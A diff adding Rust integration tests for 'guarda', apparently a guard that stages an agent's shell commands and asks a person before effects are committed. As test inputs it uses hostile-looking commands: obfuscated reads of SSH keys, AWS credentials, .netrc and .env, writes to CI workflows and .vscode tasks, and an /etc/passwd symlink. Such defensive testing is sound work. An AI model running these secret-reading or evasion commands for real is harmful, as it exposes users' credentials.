@@ -1,0 +1,706 @@
+//! Staged runs through a real service (features N4 to N7): what changes files is run where nothing counts, its effects are
+//! judged, asked about, committed or thrown away.
+
+use std::os::unix::fs::PermissionsExt as _;
+
+use crate::common::project::Project;
+use crate::common::wait;
+use serde_json::{Value, json};
+
+impl Project {
+    fn body(&self, line: &str) -> String {
+        json!({"action": "RUN_COMMAND", "target": line, "cwd": self.work}).to_string()
+    }
+
+    /// Runs a line that is asked about, and answers; the question as a person sees it, and the end.
+    fn asked_line(&self, line: &str, answer: &str) -> (Value, Value) {
+        self.asked(answer, || self.act_line(line))
+    }
+
+    /// The sums of the record, as the console shows them.
+    fn figures(&self) -> Value {
+        self.service.get("/console/api/figures").token(&self.service.approve).send().json()
+    }
+
+    /// The phases that the record tells of, in order.
+    fn phases(&self) -> Vec<String> {
+        let lines = self.service.journal();
+        lines.iter().filter_map(|line| Some(line["phase"].as_str()?.to_owned())).collect()
+    }
+}
+
+fn changes(reply: &Value) -> Vec<(String, String)> {
+    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
+    let all = reply["effects"]["changes"].as_array().cloned().unwrap_or_default();
+    all.iter().map(|one| (text(&one["change"]), text(&one["path"]))).collect()
+}
+
+#[test]
+fn what_stays_in_the_project_is_done_without_a_question() {
+    let scene = Project::new("workspace");
+    for (line, kind, path) in [
+        ("touch new", "created", "new"),
+        ("mkdir -p deep/er", "created", "deep"),
+        ("sed -i s/one/1/ a.txt", "changed", "a.txt"),
+        ("mv a.txt c.txt", "renamed", "c.txt"),
+        ("chmod 600 c.txt", "attributes", "c.txt"),
+        ("rm c.txt", "deleted", "c.txt"),
+        ("rm -rf src", "deleted", "src"),
+        ("for i in 1 2 3; do echo $i >> log; done", "created", "log"),
+        ("mkdir made_here && cd made_here && touch x && cd ..", "created", "made_here"),
+        ("NAME=there python3 -c 'import os; open(os.environ[\"NAME\"], \"w\")'", "created", "there"),
+        ("python3 -c 'open(\"made\", \"w\").write(\"x\")'", "created", "made"),
+    ] {
+        let reply = scene.act_line(line);
+        assert_eq!(
+            (&reply["outcome"], &reply["decided_by"]),
+            (&json!("done"), &json!("policy")),
+            "{line}: {reply}"
+        );
+        assert_eq!(
+            (&reply["run"]["way"], &reply["output"]["exit_code"]),
+            (&json!("stage"), &json!(0)),
+            "{line}"
+        );
+        let path = scene.work.join(path).to_string_lossy().into_owned();
+        assert!(changes(&reply).contains(&(kind.to_owned(), path)), "{line}: {reply}");
+        assert!(reply["undo"]["until"].is_string(), "{line}: {reply}");
+    }
+    assert_eq!((scene.read("log").as_deref(), scene.read("made").as_deref()), (Some("1\n2\n3\n"), Some("x")));
+    assert!(!scene.work.join("c.txt").exists() && !scene.work.join("src").exists());
+    // Whatever their words alone would have required, nobody was asked.
+    let figures = scene.figures();
+    assert_eq!(figures["fates"], json!({"done_unasked": 11}), "{figures}");
+    assert!(figures["verdicts"]["requires_confirmation"].is_u64(), "{figures}");
+}
+
+#[test]
+fn a_file_is_as_large_as_the_command_made_it() {
+    let scene = Project::new("workspace");
+    let reply = scene.act_line("truncate -s 5G sparse");
+    assert_eq!((&reply["outcome"], &reply["output"]["exit_code"]), (&json!("done"), &json!(0)), "{reply}");
+    assert_eq!(std::fs::metadata(scene.work.join("sparse")).unwrap().len(), 5 << 30);
+}
+
+/// The home folder is not below `/tmp` here, as people's are not.
+#[test]
+fn what_is_written_beside_an_own_folder_below_tmp_is_there() {
+    let place = tempfile::tempdir_in(std::env::var_os("HOME").unwrap()).unwrap();
+    let made = crate::common::folder("", "profile = \"workspace\"");
+    std::fs::copy(made.path().join("config.toml"), place.path().join("config.toml")).unwrap();
+    let service = crate::common::Service::on(place);
+    let work = tempfile::Builder::new().prefix("own").tempdir_in("/tmp").unwrap();
+    std::fs::create_dir_all(work.path().join("below")).unwrap();
+    for (cwd, text) in [("", "one"), ("below", "two")] {
+        let cwd = work.path().join(cwd);
+        let beside = work.path().with_extension(text);
+        let line = format!("echo {text} > own.txt; echo {text} > {}", beside.display());
+        let body = json!({"action": "RUN_COMMAND", "target": line, "cwd": cwd});
+        let reply = service.perform(&body);
+        assert_eq!(reply["outcome"], "done", "{reply:#}");
+        for file in [cwd.join("own.txt"), beside] {
+            assert_eq!(std::fs::read_to_string(&file).unwrap(), format!("{text}\n"), "{file:?} {reply:#}");
+            std::fs::remove_file(file).unwrap();
+        }
+    }
+}
+
+#[test]
+fn what_changes_nothing_is_over_when_it_is_over() {
+    let scene = Project::new("workspace");
+    let reply = scene.act_line("python3 -c 'print(6 * 7)'");
+    assert_eq!(
+        (&reply["run"]["way"], &reply["output"]["stdout"]),
+        (&json!("stage"), &json!("42\n")),
+        "{reply}"
+    );
+    assert!(reply["effects"]["changes"].as_array().is_none_or(Vec::is_empty) && reply["undo"].is_null());
+    assert_eq!(scene.phases(), ["staged", "staged"]);
+}
+
+#[test]
+fn what_leads_out_of_the_project_or_runs_later_is_asked() {
+    let scene = Project::new("workspace");
+    for line in [
+        "echo x > ~/outside",
+        "echo x > .envrc",
+        "mkdir -p .github/workflows && echo x > .github/workflows/ci.yml",
+        "ln -s /etc/passwd link",
+        "cp -r src new && mkdir new/.vscode && echo x > new/.vscode/tasks.json",
+    ] {
+        let (question, reply) = scene.asked_line(line, "no");
+        assert_eq!(reply["outcome"], "denied", "{line}: {reply}");
+        assert!(reply["output"].is_null(), "{line}: {reply}");
+        assert!(!question["effects"]["changes"].as_array().unwrap().is_empty(), "{line}: {question}");
+    }
+    let mut names: Vec<_> =
+        std::fs::read_dir(&scene.work).unwrap().map(|entry| entry.unwrap().file_name()).collect();
+    names.sort();
+    assert_eq!(names, ["a.txt", "src"]);
+    assert!(!scene.service.folder.path().join("outside").exists());
+}
+
+/// The record's view of a staged run while it waits, and afterwards: `guarda audit tail` and `guarda history` in three languages,
+/// the console's history, and the sums.
+#[test]
+fn a_run_that_waits_for_its_answer_is_not_told_as_done() {
+    let scene = Project::new("desktop");
+    let tail = |locale: &str| {
+        let page = |words: &[&str]| {
+            let mut audit = crate::common::guarda(scene.service.folder.path());
+            let out = audit.args(words).env("LC_ALL", locale).output().unwrap();
+            String::from_utf8(out.stdout).unwrap()
+        };
+        let out = page(&["audit", "tail"]);
+        // The everyday name leaves out what only an auditor asks for.
+        let rows: String =
+            out.split_inclusive('\n').filter(|row| !row.contains("desk-") || row.contains("_0")).collect();
+        assert_eq!(page(&["history"]), rows);
+        if let Some(id) = out.split_whitespace().find(|word| word.ends_with("_001")) {
+            let told = page(&["history", id]);
+            for name in ["RUN_COMMAND", "FILE_", "answered_by", "requires_", "user_", "effects-", "audit-row"]
+            {
+                assert!(!told.contains(name), "{name}: {told}");
+            }
+            assert!(told.contains("touch") && page(&["audit", "show", id]).contains("RUN_COMMAND"), "{told}");
+        }
+        let rows = out.lines().filter(|row| row.contains("touch")).map(str::to_owned);
+        rows.collect::<Vec<_>>()
+    };
+    let history = || {
+        let page = scene.service.get("/console/api/history").token(&scene.service.approve).send().json();
+        page["lines"].as_array().unwrap().iter().map(|row| row["fate"].clone()).collect::<Vec<_>>()
+    };
+    let sums = || {
+        let page = scene.figures();
+        (page["requests"].clone(), page["ends"].clone(), page["fates"].clone())
+    };
+    let locales = ["en_GB.UTF-8", "pt_BR.UTF-8", "fr_FR.UTF-8"];
+    let yes = ["done after a yes", "feito após um sim", "fait après un oui"];
+    for (place, (answer, fate, ends)) in
+        [("no", "denied", ["denied", "negado", "refusé"]), ("yes", "done_approved", yes)]
+            .into_iter()
+            .enumerate()
+    {
+        let line = format!("touch {answer}");
+        std::thread::scope(|scope| {
+            let running = scope.spawn(|| scene.act_line(&line));
+            let number = scene.service.question();
+            for (locale, asked) in locales.iter().zip(["waiting", "em espera", "en attente"]) {
+                let rows = tail(locale);
+                assert_eq!(rows.len(), place + 1, "one row a request: {rows:#?}");
+                assert!(rows[place].contains(asked), "{locale}: {rows:#?}");
+            }
+            assert_eq!((&history()[0], &sums().2["waiting"]), (&json!("waiting"), &json!(1)));
+            assert_eq!(sums().1["open"], json!(1));
+            let path = format!("/v1/questions/{number}/answer");
+            let body = json!({ "answer": answer }).to_string();
+            assert_eq!(scene.service.post(&path, body).token(&scene.service.approve).send().status, 200);
+            running.join().unwrap();
+        });
+        for (locale, end) in locales.iter().zip(ends) {
+            let rows = tail(locale);
+            assert_eq!(rows.len(), place + 1, "one row a request: {rows:#?}");
+            assert!(rows[place].contains(end), "{locale}: {rows:#?}");
+        }
+        let rows = history();
+        assert_eq!((rows.len(), &rows[0]), (place + 1, &json!(fate)), "{rows:?}");
+    }
+    let (ends, fates) = (json!({"denied": 1, "completed": 1}), json!({"denied": 1, "done_approved": 1}));
+    assert_eq!(sums(), (json!(2), ends, fates));
+    let lines = scene.service.journal();
+    let numbers: std::collections::BTreeSet<_> =
+        lines.iter().filter_map(|line| line["audit_id"].as_str()).filter(|id| !id.is_empty()).collect();
+    assert_eq!(numbers.len(), 2, "{lines:#?}");
+    let held = lines.iter().find(|line| line["event"] == "outcome" && line["phase"] == "staged").unwrap();
+    assert!(held["status"].is_null() && held["output_summary"] == "", "{held}");
+}
+
+#[test]
+fn on_a_desktop_every_change_is_asked_in_exact_words() {
+    let scene = Project::new("desktop");
+    let (question, reply) = scene.asked_line("rm a.txt && echo done", "no");
+    assert_eq!((&reply["outcome"], scene.read("a.txt").is_some()), (&json!("denied"), true), "{reply}");
+    assert_eq!(question["effects"]["changes"][0]["mark"], "deleted", "{question}");
+    let (question, reply) = scene.asked_line("rm a.txt && echo done", "yes");
+    assert_eq!((&reply["outcome"], scene.read("a.txt")), (&json!("done"), None), "{reply}");
+    assert_eq!(reply["output"]["stdout"], "done\n");
+    assert!(question["effects"]["text"].as_str().unwrap().contains("a.txt"), "{question}");
+    assert_eq!(
+        scene.phases(),
+        ["staged", "staged", "commit", "discard", "staged", "staged", "commit", "commit", "commit"]
+    );
+}
+
+/// Four deletions are more than the sentence names.
+#[test]
+fn a_yes_from_elsewhere_says_which_list_was_shown() {
+    let scene = Project::new("desktop");
+    for name in ["b", "c", "d"] {
+        std::fs::write(scene.work.join(name), name).unwrap();
+    }
+    let reply = std::thread::scope(|scope| {
+        let running = scope.spawn(|| scene.act_line("rm a.txt b c d"));
+        let number = scene.service.question();
+        let path = format!("/v1/questions/{number}/answer");
+        let question = scene.service.get(&format!("/v1/questions/{number}")).token(&scene.service.approve);
+        let question = question.send().json();
+        assert_eq!(question["effects"]["list"], true, "{question}");
+        let digest = question["effects"]["digest"].as_str().unwrap();
+        assert!(!question["prompt"].as_str().unwrap().contains("a.txt"), "{question}");
+        for shown in [Value::Null, json!(""), json!(digest.to_uppercase()), json!("0".repeat(64))] {
+            let body = json!({"answer": "yes", "shown": shown}).to_string();
+            let answer = scene.service.post(&path, body).token(&scene.service.approve).send();
+            assert_eq!(answer.status, 403, "{shown}: {answer:?}");
+        }
+        assert!(scene.read("a.txt").is_some());
+        let mut approve = crate::common::guarda(scene.service.folder.path());
+        let output = approve.args(["approve", &number[..8]]).output().unwrap();
+        let card = String::from_utf8_lossy(&output.stdout).into_owned();
+        assert!(output.status.success(), "{output:?}");
+        for name in ["a.txt", "b", "c", "d"] {
+            assert!(card.contains(&format!("− {name} ")), "{card}");
+        }
+        running.join().unwrap()
+    });
+    assert_eq!((&reply["outcome"], scene.read("a.txt")), (&json!("done"), None), "{reply}");
+}
+
+#[test]
+fn what_somebody_else_changed_meanwhile_is_not_overwritten() {
+    let scene = Project::new("desktop");
+    let reply = std::thread::scope(|scope| {
+        let running = scope.spawn(|| scene.act_line("sed -i s/one/1/ a.txt"));
+        let number = scene.service.question();
+        std::fs::write(scene.work.join("a.txt"), "somebody else\n").unwrap();
+        assert_eq!(scene.service.answer(&number, "yes").status, 200);
+        running.join().unwrap()
+    });
+    assert_eq!((&reply["outcome"], &reply["error"]), (&json!("failed"), &json!("changed")), "{reply}");
+    assert_eq!(scene.read("a.txt").as_deref(), Some("somebody else\n"));
+}
+
+#[test]
+fn what_a_run_tried_to_reach_is_told() {
+    let scene = Project::new("desktop");
+    let port = "python3 -c 'import socket; socket.socket().connect_ex((\"127.0.0.1\", 9))'; touch new";
+    let (question, _) = scene.asked_line(port, "no");
+    assert_eq!(
+        question["effects"]["tried"],
+        json!({"machines": 0, "ports": 1, "sought": ["127.0.0.1:9"]}),
+        "{question}"
+    );
+    let other = "python3 -c 'import socket; socket.socket().connect_ex((\"192.0.2.1\", 9))'; touch new";
+    let (question, _) = scene.asked_line(other, "no");
+    let tried = &question["effects"]["tried"];
+    assert!(tried["machines"].as_u64() > Some(0) && tried["ports"] == 0, "{question}");
+    assert_eq!(tried["sought"], json!(["192.0.2.1:9"]));
+    let notes = question["effects"]["notes"].as_array().unwrap();
+    assert!(notes.len() == 1 && notes[0].as_str().unwrap().ends_with(": 192.0.2.1:9"), "{notes:?}");
+    let lines = scene.service.journal();
+    let told = lines.iter().filter(|line| line["tried"] == json!(["192.0.2.1:9"]));
+    let events: Vec<_> = told.map(|line| line["event"].clone()).collect();
+    assert_eq!(events, ["asked", "refusal"], "{lines:#?}");
+    // A failing command is asked about by its words, and the question names the address that it could not reach.
+    let failing = "python3 -c 'import socket; socket.create_connection((\"192.0.2.1\", 9))'";
+    let (question, _) = scene.asked_line(failing, "no");
+    assert!(question.to_string().contains("failed for want of one: 192.0.2.1:9"), "{question}");
+    // A program that finally connects to its own listener missed nothing.
+    let served = "python3 -c 'import socket; s = socket.socket(); s.bind((\"127.0.0.1\", 0)); p = s.getsockname(); \
+                  socket.socket().connect_ex(p); s.listen(); c = socket.socket(); c.connect(p); s.accept()'; touch new";
+    let (question, _) = scene.asked_line(served, "no");
+    assert_eq!(question["effects"]["tried"], json!({"machines": 0, "ports": 0, "sought": []}), "{question}");
+}
+
+#[test]
+fn a_session_keeps_the_project_of_its_first_request() {
+    let scene = Project::new("workspace");
+    let other = scene.work.parent().unwrap().join("other");
+    std::fs::create_dir_all(&other).unwrap();
+    let body = |line: &str, cwd: &std::path::Path, session: Option<&str>| json!({"action": "RUN_COMMAND", "target": line, "cwd": cwd, "session": session});
+    for (line, cwd, session, asked) in [
+        ("touch one", &scene.work, Some("first"), false),
+        ("touch two", &other, Some("first"), true),
+        ("touch three", &scene.work.join("src"), Some("first"), false),
+        ("touch four", &other, Some("second"), false),
+        ("touch five", &scene.work, Some("second"), true),
+        // A request without a session belongs to no project.
+        ("touch six", &scene.work, None, false),
+        ("touch seven", &other, None, false),
+    ] {
+        let body = body(line, cwd, session);
+        if asked {
+            let (question, reply) = scene.asked("no", || scene.act(&body));
+            let outside = |finding: &Value| finding["rule"] == "effects-outside";
+            let findings = question["findings"].as_array().or(reply["findings"].as_array()).unwrap();
+            assert!(findings.iter().any(outside), "{line}: {reply}");
+        } else {
+            assert_eq!(scene.act(&body)["decided_by"], "policy", "{line}");
+        }
+    }
+}
+
+#[test]
+fn a_cache_is_kept_if_its_person_says_so() {
+    let write = "python3 -c 'open(__import__(\"os\").path.expanduser(\"~/.cache/a\"), \"w\").write(\"x\")'";
+    for (config, kept) in [("", false), ("[undo]\nkeep_caches = [\".cache\"]", true)] {
+        let scene = Project::with("workspace", config);
+        let cache = scene.service.folder.path().join(".cache");
+        std::fs::create_dir_all(&cache).unwrap();
+        let reply = scene.act_line(write);
+        assert_eq!((&reply["outcome"], &reply["decided_by"]), (&json!("done"), &json!("policy")), "{reply}");
+        assert_eq!(cache.join("a").exists(), kept, "{reply}");
+        if kept {
+            let undone = scene.act(&json!({"action": "UNDO", "cwd": scene.work}));
+            assert_eq!(undone["outcome"], json!("done"), "{undone}");
+            assert!(!cache.join("a").exists());
+        }
+    }
+}
+
+#[test]
+fn what_fails_only_because_it_is_held_back_is_asked_by_its_words() {
+    let scene = Project::new("workspace");
+    for line in [
+        // It lacks the network.
+        "python3 -c 'import socket; socket.create_connection((\"192.0.2.1\", 9), 1)'",
+        // It lacks a port of this machine.
+        "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", 9), 1)'",
+        // A folder that was there before cannot be renamed.
+        "python3 -c 'import os; os.rename(\"src\", \"lib\")'",
+        // Nobody can connect to it.
+        "python3 -c 'import http.server as h; h.HTTPServer((\"127.0.0.1\", 8123), h.BaseHTTPRequestHandler).serve_forever()'",
+    ] {
+        let (question, reply) = scene.asked_line(line, "no");
+        assert_eq!((&reply["run"]["way"], &reply["outcome"]), (&json!("act"), &json!("denied")), "{reply}");
+        assert!(question["effects"].is_null(), "{question}");
+        let rules: Vec<_> =
+            reply["findings"].as_array().unwrap().iter().map(|one| one["rule"].clone()).collect();
+        let serves = line.contains("http.server");
+        let rule = if serves { "wants-port" } else { "not-staged" };
+        assert!(rules.contains(&json!(rule)), "{line}: {reply}");
+        if serves {
+            assert!(question.to_string().contains("waits for connections on port 8123"), "{question}");
+        }
+    }
+    assert!(scene.work.join("src").exists());
+}
+
+/// A secret is hidden from what nobody was asked about. What fails for want of one is asked by its words, and a yes opens that
+/// secret alone.
+#[test]
+fn what_fails_on_a_hidden_file_is_asked_about_and_its_yes_opens_it() {
+    let scene = Project::new("workspace");
+    let home = scene.service.folder.path();
+    let plainly = |line: &str| {
+        let mut shell = std::process::Command::new("/bin/sh");
+        shell.args(["-c", line]).env("HOME", home).current_dir(&scene.work);
+        let done = shell.output().unwrap();
+        assert!(done.status.success(), "{line}: {done:?}");
+    };
+    plainly(
+        "echo 'X=1' > .env && echo key > ~/.aws/credentials && echo other > ~/.netrc && \
+         ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/signs && git init -q . && git config user.name A && git config user.email a@b && \
+         git config gpg.format ssh && git config user.signingkey ~/.ssh/signs.pub && echo .env > .gitignore && git add .",
+    );
+    let reads = |(one, two): (&str, &str)| {
+        format!(
+            "python3 -c 'import os; t = open(os.path.expanduser(\"{one}\" + \"{two}\")).read(); open(\"read\", \"w\").write(t)'"
+        )
+    };
+    for (line, named) in [
+        (reads((".e", "nv")), ".env"),
+        (reads(("~/.ne", "trc")), "~/.netrc"),
+        (reads(("~/.a", "ws/credentials")), "~/.aws"),
+        ("git commit -q -S -m signed".to_owned(), "~/.ssh"),
+        ("printf 'git commit -q --amend -S -m again' > s; sh s".to_owned(), "~/.ssh"),
+        ("tar cf all.tar --exclude=.git --exclude=all.tar .".to_owned(), ".env"),
+    ] {
+        let (question, reply) = scene.asked_line(&line, "no");
+        let about = |finding: &&Value| finding["rule"] == "wants-hidden";
+        let found = reply["findings"].as_array().unwrap().iter().find(about).cloned().unwrap_or_default();
+        let names = found["names"][0].as_str().unwrap_or_default();
+        assert!(names == named && found["names"].as_array().unwrap().len() == 1, "{line}: {reply}");
+        assert!(question["prompt"].to_string().contains(named), "{line}: {question}");
+        let (_, reply) = scene.asked_line(&line, "yes");
+        assert_eq!(reply["output"]["exit_code"], 0, "{line}: {reply}");
+    }
+    assert!(scene.read("read").is_some_and(|text| text.contains("key")));
+    plainly(
+        "git -c gpg.ssh.allowedSignersFile=/dev/null log -1 --format=%G? | grep -q '[^N]'; tar tf all.tar | grep -q '^./.env$'",
+    );
+    // The other secrets stay hidden.
+    let both = reads(("~/.a", "ws/credentials")) + "; " + &reads(("~/.ne", "trc"));
+    let (_, reply) = scene.asked_line(&both, "yes");
+    assert_eq!(reply["output"]["exit_code"], 0, "{reply}");
+    // So does a yes to a line that names one.
+    for (line, output) in
+        [("cat ~/.netrc", "other\n"), ("cat ~/.aws/credentials ~/.ssh/signs.pub | head -1", "key\n")]
+    {
+        let (_, reply) = scene.asked_line(line, "yes");
+        assert_eq!(reply["output"]["stdout"], output, "{line}: {reply}");
+    }
+    // What succeeds is not asked about, nor what fails for another reason.
+    for (line, status) in [
+        ("python3 -c 'try: open(\".e\" + \"nv\")\nexcept OSError as e: print(e)'; touch done", 0),
+        ("python3 -c 'print(\"see .e\" + \"nv\"); exit(3)'", 3),
+        ("python3 -c 'open(\"/etc/shadow-\" + \"x\", \"w\")'", 1),
+    ] {
+        let reply = scene.act_line(line);
+        let told = (&reply["decided_by"], &reply["output"]["exit_code"]);
+        assert_eq!(told, (&json!("policy"), &json!(status)), "{line}: {reply}");
+    }
+}
+
+/// A held-back run reaches no socket of another program. Without its answer it fails, and is asked about; a yes reaches it.
+#[test]
+fn what_fails_without_a_socket_of_another_program_is_asked_about_and_its_yes_reaches_it() {
+    use std::io::Write as _;
+    let scene = Project::new("workspace");
+    let temporary = tempfile::Builder::new().prefix("guarda-socket-").tempdir_in("/tmp").unwrap();
+    for folder in [scene.service.folder.path(), &scene.work, temporary.path()] {
+        let path = std::fs::canonicalize(folder).unwrap().join("service");
+        let (served, at) = (std::os::unix::net::UnixListener::bind(&path).unwrap(), path.display());
+        let line = |end: &str| {
+            format!(
+                "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"{at}\"[:]); d = s.recv(9); print(d); {end}'"
+            )
+        };
+        let (question, reply) = scene.asked_line(&line("exit(not d)"), "no");
+        assert!(question["prompt"].to_string().contains("service"), "{question}");
+        assert_eq!(reply["outcome"], "denied", "{reply}");
+        let serving = std::thread::spawn(move || {
+            let (mut client, _) = served.accept().unwrap();
+            client.write_all(b"hello").unwrap();
+            served
+        });
+        let (_, reply) = scene.asked_line(&line("exit(not d)"), "yes");
+        assert_eq!(reply["output"]["stdout"], "b'hello'\n", "{reply}");
+        // What does without it is not asked about, nor does it reach it.
+        let served = serving.join().unwrap();
+        let reply = scene.act_line(&line(""));
+        let told = (&reply["decided_by"], &reply["output"]["stdout"]);
+        assert_eq!(told, (&json!("policy"), &json!("b''\n")), "{reply}");
+        served.set_nonblocking(true).unwrap();
+        assert!(served.accept().is_err());
+    }
+}
+
+/// A key that only an agent has: the run fails without it, is asked about, and a yes reaches the agent.
+#[test]
+fn a_yes_reaches_the_agent_that_signs() {
+    let folder = crate::common::folder("", "confirmation_timeout_seconds = 20\nprofile = \"workspace\"");
+    let home = std::fs::canonicalize(folder.path()).unwrap();
+    let work = home.join("work");
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::create_dir_all(&work).unwrap();
+    let socket = home.join("agent");
+    let mut agent = std::process::Command::new("ssh-agent").arg("-D").arg("-a").arg(&socket).spawn().unwrap();
+    wait("the agent", || socket.exists().then_some(()));
+    let script = "ssh-keygen -q -t ed25519 -N '' -f ../k && ssh-add -q ../k && mv ../k.pub ~/.ssh/signs.pub && rm ../k && git init -q . && \
+                  git config user.name A && git config user.email a@b && git config gpg.format ssh && \
+                  git config user.signingkey ~/.ssh/signs.pub && touch a && git add a";
+    let mut shell = std::process::Command::new("/bin/sh");
+    shell.args(["-c", script]).env("HOME", &home).env("SSH_AUTH_SOCK", &socket).current_dir(&work);
+    let made = shell.output().unwrap();
+    assert!(made.status.success(), "{made:?}");
+    let mut command = crate::common::guarda(&home);
+    command.args(["serve", "--ready-json"]).env("SSH_AUTH_SOCK", &socket);
+    let state = home.join("state");
+    let scene = Project { service: crate::common::Service::launch(command, folder, &state), work };
+    for (line, named) in [("git commit -q -S -m signed", "~/.ssh"), ("ssh-add -l >/dev/null", "agent")] {
+        let (question, reply) = scene.asked_line(line, "yes");
+        assert!(question["prompt"].to_string().contains(named), "{line}: {question}");
+        assert_eq!(reply["output"]["exit_code"], 0, "{line}: {reply}");
+    }
+    agent.kill().unwrap();
+    agent.wait().unwrap();
+}
+
+/// The port that a held-back run waited on, and the ones that it sought on this machine, are in the question and granted by its yes.
+#[test]
+fn a_yes_lets_a_server_serve_and_a_client_reach_this_machine() {
+    use std::io::{Read as _, Write as _};
+    let scene = Project::new("workspace");
+    let free = || std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
+    // A server, for one request. The address that it listens on is its own business.
+    for address in ["127.0.0.1", "::1", ""] {
+        let port = free();
+        let line = format!(
+            "python3 -c 'import socket, http.server as h; h.HTTPServer.address_family = socket.AF_INET{}; \
+             h.HTTPServer((\"{address}\", {port}), h.SimpleHTTPRequestHandler).handle_request()'",
+            if address == "::1" { "6" } else { "" }
+        );
+        let fetched = || {
+            wait("the server's answer", || {
+                let mut client = std::net::TcpStream::connect(("127.0.0.1", port)).ok()?;
+                client.write_all(b"GET /a.txt HTTP/1.0\r\n\r\n").ok()?;
+                let mut answer = String::new();
+                client.read_to_string(&mut answer).ok()?;
+                answer.contains("one").then_some(answer)
+            })
+        };
+        let (question, reply) = scene.asked("yes", || {
+            std::thread::scope(|scope| {
+                let running = scope.spawn(|| scene.act_line(&line));
+                let answer = fetched();
+                assert!(answer.starts_with("HTTP/1.0 200"), "{answer}");
+                running.join().unwrap()
+            })
+        });
+        assert!(question["prompt"].to_string().contains(&port.to_string()), "{line}: {question}");
+        assert_eq!(reply["output"]["exit_code"], 0, "{line}: {reply}");
+        // It is closed again.
+        assert!(std::net::TcpStream::connect(("127.0.0.1", port)).is_err());
+    }
+    // A client of a server that a person has running.
+    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = server.local_addr().unwrap().port();
+    let serving = std::thread::spawn(move || {
+        let (mut client, _) = server.accept().unwrap();
+        client.write_all(b"hello").unwrap();
+    });
+    let line = format!(
+        "python3 -c 'import socket; print(socket.create_connection((\"localhost\", {port})).recv(9))'"
+    );
+    let (question, reply) = scene.asked_line(&line, "yes");
+    assert!(question.to_string().contains(&format!(":{port}")), "{question}");
+    assert_eq!(reply["output"]["stdout"], "b'hello'\n", "{reply}");
+    serving.join().unwrap();
+    // A server and its client in one line, which names the port.
+    let port = free();
+    let line = format!(
+        "python3 -m http.server {port} >/dev/null 2>&1 & for n in 1 2 3 4 5 6 7 8 9; do sleep 0.2; curl -s localhost:{port}/a.txt && break; done; kill $!"
+    );
+    let (_, reply) = scene.asked_line(&line, "yes");
+    assert_eq!(reply["output"]["stdout"], "one\ntwo\n", "{reply}");
+}
+
+#[test]
+fn another_command_in_its_place_is_staged_anew() {
+    let scene = Project::new("desktop");
+    let reply = std::thread::scope(|scope| {
+        let running = scope.spawn(|| scene.act_line("rm a.txt"));
+        let first = scene.service.question();
+        let change = json!({"answer": "modify", "command": "mv a.txt kept.txt"}).to_string();
+        let path = format!("/v1/questions/{first}/answer");
+        let token = std::fs::read_to_string(scene.service.state("approve-token")).unwrap();
+        assert_eq!(scene.service.post(&path, change).token(token.trim()).send().status, 200);
+        let second = wait("the second question", || {
+            scene.service.questions().into_iter().find(|number| *number != first)
+        });
+        assert_eq!(scene.service.answer(&second, "yes").status, 200);
+        running.join().unwrap()
+    });
+    assert_eq!(
+        (&reply["outcome"], &reply["modified_command"]),
+        (&json!("done"), &json!("mv a.txt kept.txt")),
+        "{reply}"
+    );
+    assert_eq!((scene.read("a.txt"), scene.read("kept.txt").as_deref()), (None, Some("one\ntwo\n")));
+}
+
+#[test]
+fn secrets_and_the_guards_own_files_are_not_there() {
+    let scene = Project::new("workspace");
+    let home = scene.service.folder.path();
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".ssh/id_ed25519"), "SECRET KEY").unwrap();
+    let line = "python3 -c 'import os; print(open(os.path.expanduser(\"~/.s\" + \"sh/id_ed25519\")).read())'";
+    let (question, reply) = scene.asked_line(line, "no");
+    assert_eq!(reply["outcome"], "denied", "{question} {reply}");
+    let line = "python3 -c 'import os; print(os.listdir(os.path.expanduser(\"~/sta\" + \"te\")))'";
+    let reply = scene.act_line(line);
+    assert_eq!(reply["output"]["stdout"], "[]\n", "{reply}");
+    assert!(!reply["output"]["stdout"].as_str().unwrap_or_default().contains("token"), "{reply}");
+    // Old versions that lie beside a folder, where a file system has no other place for them.
+    let name = format!(".guarda-costas-{}", rustix::process::geteuid().as_raw());
+    let (_, tail) = name.split_at(".guarda".len());
+    for place in [scene.work.join(&name), scene.work.join("src").join(&name)] {
+        std::fs::create_dir(&place).unwrap();
+        std::fs::write(place.join("old"), "OLD VERSION").unwrap();
+        let line = format!(
+            "python3 -c 'print(open(\"{}\" + \"{tail}/old\").read())'",
+            place.to_str().unwrap().strip_suffix(tail).unwrap()
+        );
+        let reply = scene.act_line(&line);
+        assert_ne!(reply["output"]["exit_code"], 0, "{reply}");
+        assert!(!reply.to_string().contains("OLD VERSION"), "{reply}");
+    }
+}
+
+#[test]
+fn a_cache_that_cannot_be_read_does_not_hinder() {
+    let scene = Project::new("workspace");
+    let cache = scene.service.folder.path().join(".cache");
+    std::fs::create_dir_all(&cache).unwrap();
+    std::fs::set_permissions(&cache, std::fs::Permissions::from_mode(0o000)).unwrap();
+    let reply = scene.act_line("rm a.txt");
+    assert_eq!((&reply["outcome"], &reply["run"]["way"]), (&json!("done"), &json!("stage")), "{reply}");
+    assert!(reply["undo"]["until"].is_string(), "{reply}");
+    std::fs::set_permissions(&cache, std::fs::Permissions::from_mode(0o700)).unwrap();
+}
+
+#[test]
+fn what_cannot_be_held_back_is_asked_by_its_words() {
+    let scene = Project::new("workspace");
+    for line in ["npm start", "git push", "systemctl restart nginx", "kill 1", "sleep 100 &"] {
+        let answer = scene.service.post("/v1/judge", scene.body(line)).send().json();
+        assert_ne!(answer["run"]["way"], "stage", "{line}: {answer}");
+    }
+}
+
+#[test]
+fn allowed_packages_are_fetched_without_a_question_and_their_writes_are_held_back() {
+    let run = |allow: &str, profile: &str, line: &str| {
+        let scene = Project::with(profile, &format!("[network]\nallow = [{allow}]\n"));
+        let judged = scene.service.post("/v1/judge", scene.body(line)).send().json();
+        let network = &judged["run"]["network"];
+        (judged["run"]["status"].clone(), judged["run"]["way"].clone(), network["access"].clone())
+    };
+    let said = |status: &str, way: &str, access: &str| (json!(status), json!(way), json!(access));
+    let asked = said("requires_confirmation", "act", "hosts");
+    assert_eq!(run("", "workspace", "npm ci"), asked);
+    assert_eq!(run("'npm'", "workspace", "npm ci"), said("approved", "stage", "hosts"));
